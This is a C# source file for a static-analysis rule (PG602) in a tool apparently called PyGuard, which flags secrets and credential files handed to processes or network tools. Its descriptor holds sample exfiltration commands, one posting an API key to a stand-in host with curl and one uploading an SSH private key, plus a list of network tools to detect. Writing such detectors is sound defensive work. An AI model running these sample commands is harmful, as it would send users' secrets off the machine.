using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Semantics.DataFlow;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Exfil;

/// <summary>PG602: sensitive data handed to another program, above all a network tool.</summary>
public sealed class SensitiveDataToProcess : Analyzer
{
    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG602", "Sensitive data passed to a process or network tool", "sensitive data ({0}) is passed to {1}",
        RuleCategory.Exfil, Severity.Error, Confidence.High, 9.0, [200, 214],
        whatItDoes: "Reports sensitive data (see PG601 for the sources and how they are followed) given to another program — on its command line, through its standard input (`communicate`, `stdin.write`, `input=`) — and network tools (curl, wget, nc, socat, scp, sftp, rsync, ssh, ftp...) given a credential file by path or data read from one, whether the path is folded from Python or written in the command (`curl -F f=@$HOME/.ssh/id_rsa`). Output of one process passed to another is reported only when the receiver is a network tool.",
        why: "A started program is outside everything the static check can follow: curl or netcat with a secret or a key file on its command line sends it away, and any program can. Command lines are also visible to every user of the machine in the process list.",
        example: "import os\nos.system(f\"curl -d 'k={os.environ['OPENAI_API_KEY']}' https://hooks.example.net/k\")",
        instead: "Keep secrets inside the process that needs them; do not start network tools from agent code.",
        safeExample: "import subprocess\nsubprocess.run(['git', 'status', '--short'], check=True)",
        "https://cwe.mitre.org/data/definitions/214.html");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterCallAction(Analyze, ProcessCalls.Functions);

    private static void Analyze(NodeContext context)
    {
        var call = (ExprCall)context.Node;
        if (ProcessCalls.Find(context.Model, call) is { } process)
        {
            AnalyzeProcessCall(context, call, process);
        }
    }

    // Apart from the look-up above so that the closure below is only allocated for process calls.
    private static void AnalyzeProcessCall(NodeContext context, ExprCall call, ProcessCall process)
    {
        var receiver = process.NetworkTool is { } tool ? $"the network tool {tool} ({process.Function})" : $"a process ({process.Function})";
        var taints = TaintFlows.Find(context.Model, NetworkCalls.Arguments(call), source => Counts(source, process.NetworkTool is not null));
        if (taints.Count > 0)
        {
            TaintFlows.Report(context, Descriptor, taints, $"{process.Function} gives it to {receiver}", null, TaintFlows.Describe(taints), receiver);
            return;
        }

        if (process.NetworkTool is not null && process.Command is { } command && SensitiveFiles.FindInCommand(command) is { } file)
        {
            context.ReportHere(Descriptor, $"the path of {file}", receiver);
        }
    }

    /// <summary>Secrets count for any program; paths and other programs' output only for network tools, which send them on.</summary>
    private static bool Counts(TaintSource source, bool networkTool) =>
        networkTool || source.Kind is not (SourceKind.CredentialPath or SourceKind.ProcessOutput);
}
